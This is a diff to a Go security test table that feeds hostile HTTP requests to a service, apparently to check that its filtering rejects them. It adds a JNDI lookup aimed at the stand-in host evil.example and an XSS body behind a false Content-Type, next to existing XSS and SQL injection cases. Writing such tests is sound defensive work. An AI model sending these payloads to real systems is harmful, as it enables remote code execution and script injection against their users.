@@ -66,6 +66,8 @@ func TestAttacksOnTheEnvelope(t *testing.T) {
 		"text":                {"POST", "/events", "<script>alert(1)</script>", []string{"Content-Type", "text/plain"}},
 		"late in NDJSON":      {"POST", "/events", strings.Repeat("{\"type\":\"view\",\"product_id\":1}\n", 500) + `{"type":"<script>alert(1)</script>"}`, []string{"Content-Type", "application/x-ndjson"}},
 		"deep in a batch":     {"POST", "/batch", `{"requests":[{"method":"GET","path":"/cart"},{"method":"GET","path":"/products?q=1%27+OR+%271%27%3D%271"}]}`, nil},
+		"header in a batch":   {"POST", "/batch", `{"requests":[{"path":"/cart","headers":{"Accept":"${jndi:ldap://evil.example/a}"}}]}`, nil},
+		"type in a batch":     {"POST", "/batch", `{"requests":[{"path":"/users","method":"POST","headers":{"Content-Type":"image/png"},"body":{"name":"<script>alert(1)</script>"}}]}`, nil},
 		"batch of odd shape":  {"POST", "/batch", `{"requests":[{"method":"GET","path":"/cart","x":"<script>alert(1)</script>"}]}`, nil},
 		"coded body":          {"POST", "/users", `{"name":"Ann"}`, []string{"Content-Encoding", "gzip"}},
 		"method":              {"TRACE", "/", "", nil},
